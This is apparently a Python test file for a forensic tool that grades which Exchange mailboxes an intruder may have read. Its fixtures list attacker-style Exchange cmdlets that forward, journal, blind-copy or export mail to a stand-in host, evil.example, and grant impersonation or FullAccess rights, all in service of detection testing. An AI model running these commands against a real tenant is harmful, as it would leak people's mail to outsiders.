"""Mail that an intrusion may have taken of mailboxes though no record says so: such a mailbox is not without a sign."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from tests.scope.office import FOREIGN, NETWORK, PEOPLE, attended, facts, log_of, reasoned, visits
from tests.scope.staged import bind, iis_place, stage, ual_json
from tests.scope.test_scope_takings import Ran, at, managed, readers

from dwell.answers.assemble import assemble
from dwell.model.claims import EXPOSED, Grade, MailboxExposure

STOLEN = PEOPLE[:5]
OTHERS = PEOPLE[5:]
DIRECTORY = "PrimarySmtpAddress,SamAccountName,RecipientTypeDetails\r\n" + "".join(
    f"{one},{one.partition('@')[0]},UserMailbox\r\n" for one in PEOPLE
)
GOAL = "x@evil.example"
VICTIM = OTHERS[7]
FLOWS = [
    ("New-TransportRule", f'-Name "." -BlindCopyTo "{GOAL}"'),
    ("Set-TransportRule", f'-Identity "old" -RedirectMessageTo "{GOAL}"'),
    ("New-JournalRule", f'-Name "j" -JournalEmailAddress "{GOAL}" -Scope Global'),
    ("Set-MailboxDatabase", f'-Identity "DB1" -JournalRecipient "{GOAL}"'),
]


def _found(root: Path, ran: Sequence[Ran], more: Sequence[dict[str, object]] = ()) -> dict[str, MailboxExposure]:
    """Give the mailboxes of the office of which an intruder reads five, every third night from the 20th day on."""
    rows = attended() + readers(range(20, 44, 3)) + [*more]
    files: dict[str, str | bytes] = {iis_place("EX01", "210104"): log_of(rows), "directory.csv": DIRECTORY}
    if ran:
        files["EX01/management.xml"] = managed(ran)
    staged = stage(root, files)
    return {one.mailbox: one for one in assemble(reasoned(staged), facts(staged)).mailboxes}


def _user(person: str) -> str:
    return f"gov.example/Users/{person.partition('@')[0]}"


def _grades(found: dict[str, MailboxExposure], names: Sequence[str]) -> set[Grade]:
    return {found[one].grade for one in names}


@pytest.mark.parametrize(("cmdlet", "told"), FLOWS)
def test_a_rule_of_the_organisation_made_in_an_intruders_session_leaves_nobody_without_a_sign(
    cmdlet: str, told: str, tmp_path: Path
) -> None:
    found = _found(tmp_path, [(at(20, 3, 60), cmdlet, told, _user(STOLEN[0]))])
    assert _grades(found, STOLEN) == {Grade.OPENED}
    assert _grades(found, OTHERS) == {Grade.UNDETERMINABLE}
    assert GOAL in " ".join(found[OTHERS[0]].assumptions)


@pytest.mark.parametrize(("cmdlet", "told"), FLOWS)
def test_a_rule_of_the_organisation_by_right_changes_no_mailbox_and_is_told(
    cmdlet: str, told: str, tmp_path: Path
) -> None:
    ran = [(at(20, 3, 60), cmdlet, told, "gov.example/Admins/adm")]
    rows = attended() + readers(range(20, 44, 3))
    staged = stage(
        tmp_path,
        {iis_place("EX01", "210104"): log_of(rows), "directory.csv": DIRECTORY, "EX01/management.xml": managed(ran)},
    )
    summary = assemble(reasoned(staged), facts(staged))
    assert _grades({one.mailbox: one for one in summary.mailboxes}, OTHERS) == {Grade.NO_SIGN}
    text = " ".join(claim.text for claim in summary.claims)
    assert "Mail of mailboxes that no record names was set to be copied as it comes in or goes out by adm" in text


def test_a_search_that_copies_a_mailbox_takes_it(tmp_path: Path) -> None:
    told = f'-Identity "{OTHERS[3]}" -TargetMailbox "{STOLEN[0]}" -TargetFolder "x"'
    found = _found(tmp_path, [(at(20, 3, 60), "Search-Mailbox", told, _user(STOLEN[0]))])
    assert found[OTHERS[3]].grade is Grade.DOWNLOADED
    assert _grades(found, [one for one in OTHERS if one != OTHERS[3]]) == {Grade.NO_SIGN}


@pytest.mark.parametrize(
    ("day", "caller", "grade"),
    [
        # the account is the intruder's by then: it may have been him, or the owner
        (30, STOLEN[0], Grade.UNDETERMINABLE),
        # before he came
        (9, STOLEN[0], Grade.NO_SIGN),
        (30, "adm@gov.example", Grade.NO_SIGN),
    ],
)
def test_what_a_stolen_account_ran_at_another_time_may_be_the_intruders(
    day: int, caller: str, grade: Grade, tmp_path: Path
) -> None:
    told = f'-Identity "{OTHERS[3]}" -ForwardingSmtpAddress "smtp:{GOAL}"'
    found = _found(tmp_path, [(at(day, 14), "Set-Mailbox", told, _user(caller))])
    assert found[OTHERS[3]].grade is grade
    assert _grades(found, [one for one in OTHERS if one != OTHERS[3]]) == {Grade.NO_SIGN}


@pytest.mark.parametrize(
    ("clients", "grade"),
    [
        (["10.1.1.40"], Grade.NO_SIGN),
        ([f"{NETWORK}.15"], Grade.UNDETERMINABLE),
        # somebody else sat at the same account then
        (["10.1.1.40", f"{NETWORK}.15"], Grade.UNDETERMINABLE),
    ],
)
def test_what_a_stolen_account_ran_in_remote_powershell_from_inside_is_its_owners(
    clients: Sequence[str], grade: Grade, tmp_path: Path
) -> None:
    told = f'-Identity "{OTHERS[3]}" -ForwardingSmtpAddress "smtp:{GOAL}"'
    shells = [row for one in clients for row in visits(STOLEN[0], one, "WinRM", [30], hour=14, stem="/powershell")]
    found = _found(tmp_path, [(at(30, 14, 60), "Set-Mailbox", told, _user(STOLEN[0]))], shells)
    assert found[OTHERS[3]].grade is grade


FULL = f'-Identity "{OTHERS[3]}" -User "{STOLEN[1]}" -AccessRights FullAccess'


@pytest.mark.parametrize(
    ("ran", "all_of_them"),
    [
        ((at(20, 3, 60), "Add-MailboxPermission", FULL, _user(STOLEN[0])), False),
        # an administrator gave it by right, and the account was stolen afterwards
        ((at(9, 10), "Add-MailboxPermission", FULL, "gov.example/Admins/adm"), False),
        (
            (
                at(20, 3, 60),
                "New-ManagementRoleAssignment",
                f'-Role "ApplicationImpersonation" -User "{STOLEN[1]}"',
                _user(STOLEN[0]),
            ),
            True,
        ),
        (
            (
                at(20, 3, 60),
                "Add-RoleGroupMember",
                f'-Identity "Organization Management" -Member "{STOLEN[1]}"',
                _user(STOLEN[0]),
            ),
            True,
        ),
        # somebody who is no account of the intrusion's otherwise, and comes later
        (
            (
                at(20, 3, 60),
                "New-RoleGroup",
                f'-Name "HD" -Roles "ApplicationImpersonation" -Members "{OTHERS[9]}"',
                _user(STOLEN[0]),
            ),
            True,
        ),
    ],
)
def test_what_an_intruders_account_may_open_is_not_without_a_sign_where_logs_name_no_mailbox(
    ran: Ran, all_of_them: bool, tmp_path: Path
) -> None:
    found = _found(tmp_path, [ran])
    assert found[OTHERS[3]].grade is Grade.UNDETERMINABLE
    rest = [one for one in OTHERS if one != OTHERS[3]]
    assert _grades(found, rest) == {Grade.UNDETERMINABLE if all_of_them else Grade.NO_SIGN}


@pytest.mark.parametrize(
    "ran",
    [
        # nobody of these is an intruder's
        (
            at(20, 10),
            "Add-MailboxPermission",
            FULL.replace(STOLEN[1], OTHERS[9]),
            "gov.example/Admins/adm",
        ),
        # given when the intruder had come for the last time
        (at(50, 10), "Add-MailboxPermission", FULL, "gov.example/Admins/adm"),
        (at(20, 3, 60), "Add-MailboxPermission", f"{FULL} -Deny", _user(STOLEN[0])),
        # what a role group may is not known, and an administrator gave it
        (
            at(9, 10),
            "Add-RoleGroupMember",
            f'-Identity "Organization Management" -Member "{STOLEN[1]}"',
            "gov.example/Admins/adm",
        ),
    ],
)
def test_a_right_that_no_intruder_can_have_used_changes_nothing(ran: Ran, tmp_path: Path) -> None:
    assert _grades(_found(tmp_path, [ran]), OTHERS) == {Grade.NO_SIGN}


def test_a_bare_name_without_a_directory_is_that_of_its_mailbox(tmp_path: Path) -> None:
    told = f'-Identity "{VICTIM.partition("@")[0]}" -ForwardingSmtpAddress "smtp:{GOAL}"'
    ran = [(at(30, 14), "Set-Mailbox", told, f"gov.example/Users/{STOLEN[0]}")]
    rows = attended() + readers(range(20, 44, 3))
    staged = stage(tmp_path, {iis_place("EX01", "210104"): log_of(rows), "EX01/management.xml": managed(ran)})
    found = {one.mailbox: one for one in assemble(reasoned(staged), facts(staged)).mailboxes}
    assert found[VICTIM].grade is Grade.UNDETERMINABLE
    assert _grades(found, [one for one in OTHERS if one != VICTIM]) == {Grade.NO_SIGN}


def test_of_many_acts_a_few_are_told_and_the_others_counted(tmp_path: Path) -> None:
    told = f'-Identity "{OTHERS[3]}" -ForwardingSmtpAddress "smtp:x{{}}@evil.example"'
    ran = [(at(30, 14, 60 * place), "Set-Mailbox", told.format(place), _user(STOLEN[0])) for place in range(9)]
    (*first, last) = _found(tmp_path, ran)[OTHERS[3]].assumptions
    assert [f"smtp:x{place}@evil.example" in text for place, text in enumerate(first)] == [True] * 5
    assert last == "4 more acts give reason to doubt as well"


def _audited(*, more: Sequence[dict[str, object]]) -> str:
    """Give the tenant's records of the office: an intruder opens five mailboxes, and who else did what."""
    records = [
        bind(f"2021-01-{day:02} 09:{place:02}:00", one, one, f"198.19.{place}.7", "Client=OWA;Chrome/88",
             messages=[f"<{place}-{day}@x>"])
        for day in range(4, 30)
        for place, one in enumerate(PEOPLE)
    ]  # fmt: skip
    records += [
        bind(f"2021-01-{day:02} 03:{place:02}:00", one, one, f"{NETWORK}.14", f"Client=OWA;{FOREIGN}",
             messages=[f"<s{place}-{day}@x>"])
        for day in range(5, 29, 4)
        for place, one in enumerate(STOLEN)
    ]  # fmt: skip
    return ual_json(sorted([*records, *more], key=lambda one: str(one["CreationTime"])))


def _cloud(root: Path, *more: dict[str, object]) -> dict[str, MailboxExposure]:
    staged = stage(root, {"cloud/UAL.json": _audited(more=more), "directory.csv": DIRECTORY})
    return {one.mailbox: one for one in assemble(reasoned(staged), facts(staged)).mailboxes}


def _set(person: str, client: str | None, at_utc: str = "2021-01-15T14:05:00", **more: object) -> dict[str, object]:
    told = {"Identity": person, "ForwardingSmtpAddress": f"smtp:{GOAL}"}
    return {
        "CreationTime": at_utc, "Id": f"set/{person}/{client}/{at_utc}", "RecordType": 1, "Operation": "Set-Mailbox",
        "Workload": "Exchange", "UserId": person, "ObjectId": person, "ResultStatus": "True",
        "Parameters": [{"Name": name, "Value": value} for name, value in told.items()],
        **({"ClientIP": client} if client else {}), **more,
    }  # fmt: skip


def test_a_cmdlet_from_an_address_of_the_intrusion_alone_is_the_intrusions(tmp_path: Path) -> None:
    found = _cloud(tmp_path, _set(VICTIM, f"{NETWORK}.14:4431"))
    assert found[VICTIM].grade is Grade.DOWNLOADED
    assert _grades(found, [one for one in OTHERS if one != VICTIM]) == {Grade.NO_SIGN}


def _visit(person: str, client: str) -> list[dict[str, object]]:
    return [
        bind(
            f"2021-01-{day:02} 10:30:00",
            person,
            person,
            client,
            "Client=OWA;Chrome/88",
            messages=[f"<v{day}{person}@x>"],
        )
        for day in range(4, 30)
    ]


@pytest.mark.parametrize(
    ("client", "at_utc", "lives", "grade"),
    [
        # somebody else has that address as well
        (f"{NETWORK}.14", "2021-01-15T14:05:00", (OTHERS[9], f"{NETWORK}.14"), Grade.UNDETERMINABLE),
        # another address of that network
        (f"{NETWORK}.15", "2021-01-15T14:05:00", None, Grade.UNDETERMINABLE),
        # whoever ran it is there day after day, with an agent that he has nowhere else: so may the intruder be
        (f"{NETWORK}.14", "2021-01-15T14:05:00", (VICTIM, f"{NETWORK}.14"), Grade.UNDETERMINABLE),
        # his own provider's
        ("198.19.12.7", "2021-01-15T14:05:00", None, Grade.NO_SIGN),
        ("10.1.1.9", "2021-01-15T14:05:00", None, Grade.NO_SIGN),
        (None, "2021-01-15T14:05:00", None, Grade.NO_SIGN),
        # long after: addresses are let to others
        (f"{NETWORK}.14", "2021-08-15T14:05:00", None, Grade.NO_SIGN),
    ],
)
def test_an_address_that_is_not_the_intrusions_alone_lays_nothing_to_it(
    client: str | None, at_utc: str, lives: tuple[str, str] | None, grade: Grade, tmp_path: Path
) -> None:
    more = _visit(*lives) if lives else []
    found = _cloud(tmp_path, *more, _set(VICTIM, client, at_utc))
    assert found[VICTIM].grade is grade
    assert not [one for one in OTHERS if found[one].grade in EXPOSED]


@pytest.mark.parametrize("operation", ["New-ComplianceSearchAction", "SearchExported", "SearchPreviewed"])
def test_a_content_search_from_an_intruders_address_leaves_nobody_without_a_sign(
    operation: str, tmp_path: Path
) -> None:
    one = _set(STOLEN[0], f"{NETWORK}.14", Operation=operation, Parameters=[{"Name": "SearchName", "Value": "x"}])
    assert _grades(_cloud(tmp_path, one), OTHERS) == {Grade.UNDETERMINABLE}


def test_a_content_search_by_right_changes_nothing(tmp_path: Path) -> None:
    one = _set("law@gov.example", "198.19.80.7", Operation="SearchExported", Parameters=[])
    assert _grades(_cloud(tmp_path, one), OTHERS) == {Grade.NO_SIGN}


@pytest.mark.parametrize(
    ("actions", "grade"),
    [
        ('[{"ActionType":"Forward","Recipients":["x@evil.example"]}]', Grade.DOWNLOADED),
        ('[{"ActionType":"MoveToFolder","Folder":"RSS"}]', Grade.OPENED),
    ],
)
def test_a_rule_that_an_intruders_client_set_is_set_in_an_opened_mailbox(
    actions: str, grade: Grade, tmp_path: Path
) -> None:
    properties = {"RuleOperation": "AddMailboxRule", "RuleName": ".", "RuleActions": actions}
    one = _set(
        VICTIM, None, Operation="UpdateInboxRules", RecordType=2, MailboxOwnerUPN=VICTIM, Parameters=[],
        ClientIPAddress=f"{NETWORK}.14", ClientInfoString=f"Client=OWA;{FOREIGN}", ResultStatus="Succeeded",
        OperationProperties=[{"Name": name, "Value": value} for name, value in properties.items()],
    )  # fmt: skip
    assert _cloud(tmp_path, one)[VICTIM].grade is grade


def test_outlooks_own_rules_of_their_owners_change_nothing(tmp_path: Path) -> None:
    properties = {
        "RuleOperation": "AddMailboxRule",
        "RuleActions": '[{"ActionType":"Forward","Recipients":["me@home.example"]}]',
    }
    one = _set(
        VICTIM, None, Operation="UpdateInboxRules", RecordType=2, MailboxOwnerUPN=VICTIM, Parameters=[],
        ClientIPAddress="198.19.12.7", ClientInfoString="Client=OWA;Chrome/88", ResultStatus="Succeeded",
        OperationProperties=[{"Name": name, "Value": value} for name, value in properties.items()],
    )  # fmt: skip
    assert _grades(_cloud(tmp_path, one), OTHERS) == {Grade.NO_SIGN}


@pytest.mark.parametrize(
    ("client", "lives", "grade"),
    [
        # from where nobody in the logs ever came
        ("192.0.2.55", None, Grade.UNDETERMINABLE),
        # from somebody else's provider, and from inside, where the account is never seen
        ("198.19.12.9", None, Grade.UNDETERMINABLE),
        ("10.9.9.9", None, Grade.UNDETERMINABLE),
        # its owner is at home there
        ("198.19.0.7", None, Grade.NO_SIGN),
        ("192.0.2.55", "192.0.2.57", Grade.NO_SIGN),
        ("10.9.9.9", "10.1.1.9", Grade.NO_SIGN),
    ],
)
def test_a_stolen_accounts_cmdlet_from_where_the_account_is_not_seen_may_be_the_intruders(
    client: str, lives: str | None, grade: Grade, tmp_path: Path
) -> None:
    made: dict[str, Any] = {
        "Operation": "New-TransportRule",
        "Parameters": [{"Name": "BlindCopyTo", "Value": "x@evil.example"}],
    }
    found = _cloud(tmp_path, *(_visit(STOLEN[0], lives) if lives else []), _set(STOLEN[0], client, **made))
    assert _grades(found, OTHERS) == {grade}


LIST = f'-Identity "all-staff" -Member "{GOAL}"'


@pytest.mark.parametrize(
    ("cmdlet", "told", "whose", "others"),
    [
        ("New-MailboxRestoreRequest", '-SourceStoreMailbox "{}" -TargetMailbox "p00"', Grade.DOWNLOADED, Grade.NO_SIGN),
        ("Export-Mailbox", '-Identity "{}" -PSTFolderPath "c:\\x"', Grade.DOWNLOADED, Grade.NO_SIGN),
        ("Connect-Mailbox", '-Identity "{}" -Database "DB1" -User "p00"', Grade.DOWNLOADED, Grade.NO_SIGN),
        ("New-MoveRequest", '-Identity "{}" -Outbound -RemoteHostName "evil.example"', Grade.DOWNLOADED, Grade.NO_SIGN),
        ("New-MoveRequest", '-Identity "{}" -TargetDatabase "DB2"', Grade.NO_SIGN, Grade.NO_SIGN),
        ("Add-MailboxPermission", '-Identity "{}" -Owner "p00"', Grade.UNDETERMINABLE, Grade.NO_SIGN),
        (
            "New-SendConnector",
            '-AddressSpaces "*" -SmartHosts "evil.example"',
            Grade.UNDETERMINABLE,
            Grade.UNDETERMINABLE,
        ),
        ("Set-SendConnector", '-Identity "x" -SmartHosts "evil.example"', Grade.UNDETERMINABLE, Grade.UNDETERMINABLE),
        ("Set-SendConnector", '-Identity "x" -Enabled $true', Grade.NO_SIGN, Grade.NO_SIGN),
        ("Add-DistributionGroupMember", LIST, Grade.UNDETERMINABLE, Grade.UNDETERMINABLE),
        ("Add-DistributionGroupMember", '-Identity "all" -Member "p09@gov.example"', Grade.NO_SIGN, Grade.NO_SIGN),
    ],
)
def test_mail_that_goes_away_by_other_cmdlets_in_an_intruders_session(
    cmdlet: str, told: str, whose: Grade, others: Grade, tmp_path: Path
) -> None:
    found = _found(tmp_path, [(at(20, 3, 60), cmdlet, told.format(VICTIM), _user(STOLEN[0]))])
    assert found[VICTIM].grade is whose
    assert _grades(found, [one for one in OTHERS if one != VICTIM]) == {others}


def test_the_same_by_right_changes_no_mailbox(tmp_path: Path) -> None:
    ran = [
        (at(20, 14), "New-MailboxRestoreRequest", f'-SourceStoreMailbox "{VICTIM}" -TargetMailbox "p09"', _user("adm")),
        (at(21, 14), "Add-DistributionGroupMember", LIST, _user("adm")),
        (at(22, 14), "New-SendConnector", '-AddressSpaces "*" -SmartHosts "relay.example"', _user("adm")),
    ]
    assert _grades(_found(tmp_path, ran), OTHERS) == {Grade.NO_SIGN}
